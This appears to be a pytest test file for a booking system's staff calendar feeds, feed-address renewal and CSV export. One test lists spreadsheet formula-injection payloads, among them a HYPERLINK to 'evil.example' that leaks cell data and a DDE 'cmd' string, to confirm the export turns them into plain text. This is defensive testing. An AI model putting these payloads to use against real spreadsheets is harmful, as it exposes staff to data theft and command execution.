"""Staff share the calendar: subscription feeds that calendar apps keep in step with every
decision, an address an administrator can renew, and the bookings of a range as a CSV that
Excel and LibreOffice open with accents intact."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import pytest
from icalendar import Calendar
from sqlalchemy import select, update

from booking import decisions
from booking.feed_service import feed_token, spreadsheet_safe
from booking.models import Booking, CalendarFeedSecret
from booking.status import BookingStatus
from core.clock import now_utc
from core.staff.models import AuditEvent
from tests.factories import days_from_today, hold, staff_post, training_day

PUBLIC_URL = "https://ambulante.example.org"
EN = {"Accept-Language": "en"}
ACCENTED = "Fédération des employées et employés de services publics — Señora Çà"


@pytest.fixture
def app_config() -> dict[str, str]:
    return {"PUBLIC_URL": PUBLIC_URL}


@pytest.fixture
def token(session) -> str:
    """The feeds' secret, made with the database."""
    return feed_token(session)


def calendar_app_fetches(app, path: str, **headers: str):
    """A calendar app: no cookie, no sign-in, sometimes another name for the host."""
    return app.test_client().get(path, headers=headers)


def events_of(response) -> dict[str, object]:
    assert response.status_code == 200, response.status_code
    calendar = Calendar.from_ical(response.data)
    return {str(event["uid"]): event for event in calendar.walk("VEVENT")}


def uid(booking: Booking) -> str:
    return f"{booking.reference}@ambulante"


def moved(session, booking: Booking, days: int) -> None:
    decisions.move(
        session,
        booking.reference,
        booking.start_date + dt.timedelta(days=days),
        booking.end_date + dt.timedelta(days=days),
        booking.unit_id,
        "marie@centre.example",
        now_utc(),
    )
    session.commit()


def decided(session, booking: Booking, status: BookingStatus) -> None:
    decisions.decide(session, booking.reference, status, "", "marie@centre.example", now_utc())
    session.commit()


# --- The feeds ----------------------------------------------------------------------------


def test_staff_calendar_app_reads_every_held_and_confirmed_booking(app, session, token):
    requested = hold(session, start=days_from_today(40)).booking
    confirmed = hold(session, start=days_from_today(80)).booking
    decided(session, confirmed, BookingStatus.CONFIRMED)
    training = hold(
        session, offering="formation-bd-textile", start=training_day(50), end=training_day(50)
    ).booking

    response = calendar_app_fetches(app, f"/calendar/{token}/all.ics")

    assert response.headers["Content-Type"] == "text/calendar; charset=utf-8"
    assert response.headers["Cache-Control"] == "no-store"
    assert "Set-Cookie" not in response.headers
    calendar = Calendar.from_ical(response.data)
    assert str(calendar["x-wr-calname"])
    assert "REFRESH-INTERVAL;VALUE=DURATION:PT1H" in response.get_data(as_text=True)
    events = events_of(response)
    assert set(events) == {uid(requested), uid(confirmed), uid(training)}
    assert str(events[uid(requested)]["status"]) == "TENTATIVE"
    assert str(events[uid(confirmed)]["status"]) == "CONFIRMED"
    event = events[uid(confirmed)]
    assert event.decoded("dtstart") == confirmed.start_date
    assert event.decoded("dtend") == confirmed.end_date + dt.timedelta(days=1)
    assert "Syndicat des cols bleus" in str(event["summary"])
    assert confirmed.unit.name in str(event["summary"])
    assert "Salle des métallos" in str(event["location"])


def test_staff_calendar_updates_a_moved_booking_in_place(app, session, token):
    booking = hold(session, start=days_from_today(60)).booking
    first = events_of(calendar_app_fetches(app, f"/calendar/{token}/all.ics"))[uid(booking)]

    moved(session, booking, 7)
    after_move = events_of(calendar_app_fetches(app, f"/calendar/{token}/all.ics"))
    decided(session, booking, BookingStatus.CONFIRMED)
    after_approval = events_of(calendar_app_fetches(app, f"/calendar/{token}/all.ics"))

    assert list(after_move) == [uid(booking)]  # the same event, not a second one
    assert after_move[uid(booking)].decoded("dtstart") == days_from_today(67)
    sequences = [
        int(first["sequence"]),
        int(after_move[uid(booking)]["sequence"]),
        int(after_approval[uid(booking)]["sequence"]),
    ]
    assert sequences == sorted(set(sequences)), sequences  # rises with every change
    assert str(after_approval[uid(booking)]["status"]) == "CONFIRMED"


def test_staff_calendar_keeps_a_returned_exhibition(app, session, token):
    booking = hold(session).booking
    decided(session, booking, BookingStatus.CONFIRMED)
    decided(session, booking, BookingStatus.COMPLETED)

    events = events_of(calendar_app_fetches(app, f"/calendar/{token}/all.ics"))

    assert str(events[uid(booking)]["status"]) == "CONFIRMED"


def test_cancelled_and_declined_bookings_leave_the_staff_calendar(app, session, token):
    declined = hold(session, start=days_from_today(40)).booking
    cancelled = hold(session, start=days_from_today(80)).booking
    kept = hold(session, start=days_from_today(120)).booking
    before = events_of(calendar_app_fetches(app, f"/calendar/{token}/all.ics"))

    decided(session, declined, BookingStatus.DECLINED)
    decided(session, cancelled, BookingStatus.CONFIRMED)
    decided(session, cancelled, BookingStatus.CANCELLED)
    after = events_of(calendar_app_fetches(app, f"/calendar/{token}/all.ics"))

    assert set(before) == {uid(declined), uid(cancelled), uid(kept)}
    assert set(after) == {uid(kept)}


def test_bookings_over_for_more_than_a_year_stay_out_of_the_feed(app, session, token):
    recent = hold(session, start=days_from_today(40)).booking
    old = hold(session, start=days_from_today(80)).booking
    for booking, ended in ((recent, days_from_today(-300)), (old, days_from_today(-400))):
        start = ended - dt.timedelta(days=4)
        session.execute(
            update(Booking)
            .where(Booking.id == booking.id)
            .values(start_date=start, end_date=ended, blocked_start=start, blocked_end=ended)
        )
    session.commit()

    events = events_of(calendar_app_fetches(app, f"/calendar/{token}/all.ics"))

    assert set(events) == {uid(recent)}


def test_an_offering_feed_holds_only_that_offering(app, session, token):
    indoor = hold(session, offering="expo-interieure").booking
    outdoor = hold(
        session, offering="expo-exterieure", start=days_from_today(60), end=days_from_today(67)
    ).booking
    day = training_day(60)
    training = hold(session, offering="formation-bd-textile", start=day, end=day).booking

    outdoor_feed = calendar_app_fetches(app, f"/calendar/{token}/expo-exterieure.ics")
    training_feed = calendar_app_fetches(app, f"/calendar/{token}/formation-bd-textile.ics")

    assert set(events_of(outdoor_feed)) == {uid(outdoor)}
    assert set(events_of(training_feed)) == {uid(training)}
    assert uid(indoor) in events_of(calendar_app_fetches(app, f"/calendar/{token}/all.ics"))


def test_feed_links_lead_to_the_staff_page_on_the_public_address(app, session, token):
    booking = hold(session).booking

    response = calendar_app_fetches(app, f"/calendar/{token}/all.ics", Host="localhost")

    link = f"{PUBLIC_URL}/staff/bookings/{booking.reference}"
    event = events_of(response)[uid(booking)]
    assert str(event["url"]) == link
    assert "localhost" not in response.get_data(as_text=True)


@pytest.mark.parametrize(
    "wrong",
    [
        "not-the-secret",
        "é" * 43,  # compared as bytes: a non-ASCII guess is a 404 too, never a 500
        "x",
    ],
)
def test_a_wrong_feed_address_finds_nothing(app, session, token, wrong):
    hold(session)

    for path in (f"/calendar/{wrong}/all.ics", f"/calendar/{wrong}/expo-interieure.ics"):
        response = calendar_app_fetches(app, path, **EN)
        assert response.status_code == 404, path
        assert "This page does not exist" in response.get_data(as_text=True)
        assert b"BEGIN:VCALENDAR" not in response.data


def test_an_unknown_offering_feed_finds_nothing(app, token):
    response = calendar_app_fetches(app, f"/calendar/{token}/expo-lunaire.ics", **EN)

    assert response.status_code == 404
    assert "This page does not exist" in response.get_data(as_text=True)


def test_showing_the_addresses_changes_nothing(staff_client, session, token):
    for method in ("GET", "HEAD"):
        staff_client.open("/staff/feeds", method=method)
    session.expire_all()
    assert session.scalar(select(CalendarFeedSecret.token)) == token
    assert session.scalar(select(AuditEvent.id)) is None


# --- The staff page and renewing its addresses --------------------------------------------


def addresses_on(page: str) -> list[str]:
    return re.findall(r'type="text" readonly value="([^"]+)"', page)


def test_staff_find_the_subscription_addresses_on_their_page(app, staff_client, session):
    booking = hold(session).booking

    page = staff_client.get("/staff/feeds", headers=EN).get_data(as_text=True)

    assert 'href="/staff/feeds" aria-current="page">Calendar feeds' in page
    for name in ("Google Calendar", "Outlook", "Thunderbird"):
        assert name in page
    addresses = addresses_on(page)
    assert len(addresses) == 4  # everything, and each of the three offerings
    assert all(address.startswith(f"{PUBLIC_URL}/calendar/") for address in addresses)
    for address in addresses:
        response = calendar_app_fetches(app, address.removeprefix(PUBLIC_URL))
        assert response.status_code == 200, address
    assert uid(booking) in events_of(
        calendar_app_fetches(app, addresses[0].removeprefix(PUBLIC_URL))
    )
    assert addresses_on(staff_client.get("/staff/feeds").get_data(as_text=True)) == addresses
    assert "/staff/feeds/rotate" not in page  # the renewal is an administrator's


def test_staff_cannot_renew_the_addresses(app, staff_client, session, token):
    response = staff_post(staff_client, "/staff/feeds/rotate")

    assert response.status_code == 403
    assert calendar_app_fetches(app, f"/calendar/{token}/all.ics").status_code == 200


def test_an_administrator_renews_the_addresses_and_the_old_ones_stop_at_once(
    app, admin_client, session, token
):
    booking = hold(session).booking

    response = staff_post(admin_client, "/staff/feeds/rotate", headers=EN)
    page = admin_client.get(response.headers["Location"], headers=EN).get_data(as_text=True)

    assert response.status_code == 303
    assert "the old ones no longer work" in page
    new_address = addresses_on(page)[0].removeprefix(PUBLIC_URL)
    assert token not in new_address
    assert calendar_app_fetches(app, f"/calendar/{token}/all.ics").status_code == 404
    assert calendar_app_fetches(app, f"/calendar/{token}/expo-interieure.ics").status_code == 404
    assert uid(booking) in events_of(calendar_app_fetches(app, new_address))
    [event] = session.scalars(select(AuditEvent).where(AuditEvent.subject == "calendar_feed"))
    assert (event.actor, event.action) == ("admin@centre.example", "rotated")
    new_token = new_address.split("/")[2]
    assert token not in event.before + event.after and new_token not in event.after
    log = admin_client.get("/staff/log", headers=EN).get_data(as_text=True)
    assert "calendar addresses renewed" in log


# --- The CSV export -----------------------------------------------------------------------


def export(client, start: dt.date | str, end: dt.date | str):
    return client.get("/staff/bookings.csv", query_string={"start": start, "end": end}, headers=EN)


def rows_of(response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    return list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig"), newline="")))


def test_staff_export_opens_with_accents_intact(staff_client, session):
    booking = hold(session, organization=ACCENTED, city="Trois-Rivières").booking

    response = export(staff_client, booking.start_date, booking.end_date)

    assert response.data.startswith(b"\xef\xbb\xbf")  # what tells Excel it is UTF-8
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment;") and ".csv" in disposition
    assert response.data.count(b"\r\n") == 2 and b"\n" not in response.data.replace(b"\r\n", b"")
    [row] = rows_of(response)
    assert row["organization"] == ACCENTED
    assert row["city"] == "Trois-Rivières"
    assert row["reference"] == booking.reference
    assert (row["start"], row["end"]) == (
        booking.start_date.isoformat(),
        booking.end_date.isoformat(),
    )
    assert row["email"] == "ana@example.org" and row["audience"] == "80"
    assert list(row) == [
        "reference",
        "status",
        "offering",
        "unit",
        "start",
        "end",
        "start_time",
        "organization",
        "contact_name",
        "email",
        "phone",
        "venue",
        "address",
        "city",
        "audience",
        "language",
        "created_at",
    ]


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"Cliquez ici")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
    ],
)
def test_a_formula_a_union_typed_stays_text_in_the_export(staff_client, session, typed):
    booking = hold(session, organization=typed, venue=typed).booking

    [row] = rows_of(export(staff_client, booking.start_date, booking.end_date))

    assert row["organization"] == "'" + typed
    assert row["venue"] == "'" + typed
    assert row["contact_name"] == "Ana Pérez"  # ordinary text is left alone


@pytest.mark.parametrize("typed", ["\t=1+1", "\r=1+1"])
def test_a_cell_starting_with_a_tab_or_carriage_return_stays_text(typed):
    # The request form trims these; the rule holds for any text all the same.
    assert spreadsheet_safe(typed) == "'" + typed
    assert spreadsheet_safe("Señora Çà") == "Señora Çà"


def test_the_export_holds_every_booking_overlapping_the_range_by_start_date(staff_client, session):
    later = hold(session, start=days_from_today(70)).booking
    earlier = hold(
        session, offering="expo-exterieure", start=days_from_today(56), end=days_from_today(63)
    ).booking
    overlapping_end = hold(
        session, offering="expo-exterieure", start=days_from_today(78), end=days_from_today(85)
    ).booking
    day = training_day(90)
    outside = hold(session, offering="formation-bd-textile", start=day, end=day).booking
    decided(session, later, BookingStatus.DECLINED)

    rows = rows_of(export(staff_client, days_from_today(62), days_from_today(80)))

    assert [row["reference"] for row in rows] == [
        earlier.reference,
        later.reference,
        overlapping_end.reference,
    ]
    assert rows[1]["status"] == "declined"
    assert outside.reference not in {row["reference"] for row in rows}


def test_the_export_without_dates_gives_this_year(staff_client, today):
    response = staff_client.get("/staff/bookings.csv")

    assert response.status_code == 200
    assert f"{today.year}-01-01-{today.year}-12-31.csv" in response.headers["Content-Disposition"]


@pytest.mark.parametrize(
    ("start", "end", "message"),
    [
        ("2027-01-01", "", "Enter a date as YYYY-MM-DD."),
        ("", "2027-01-01", "Enter a date as YYYY-MM-DD."),
        ("2027-13-01", "2027-12-31", "Enter a date as YYYY-MM-DD."),
        ("2027-02-30", "2027-12-31", "Enter a date as YYYY-MM-DD."),
        ("demain", "2027-12-31", "Enter a date as YYYY-MM-DD."),
        ("20270101", "2027-12-31", "Enter a date as YYYY-MM-DD."),
        ("2027-01-01", "9" * 400, "Enter a date as YYYY-MM-DD."),
        ("2027-06-01", "2027-05-31", "The end date must be on or after the start date."),
        ("2020-01-01", "2027-12-31", "Export at most 1098 days at a time."),
    ],
)
def test_staff_asking_for_a_bad_export_range_are_told_why(staff_client, start, end, message):
    response = export(staff_client, start, end)

    assert response.status_code == 400
    page = response.get_data(as_text=True)
    assert message in page
    assert response.headers["Content-Type"].startswith("text/html")
    assert "aria-invalid" in page  # the field in question is marked, the form kept
    assert "The spreadsheet was not made" in page


def test_the_feeds_page_offers_the_export_form(staff_client, today):
    page = staff_client.get("/staff/feeds", headers=EN).get_data(as_text=True)

    assert 'action="/staff/bookings.csv"' in page
    assert f'value="{today.year}-01-01"' in page and f'value="{today.year}-12-31"' in page
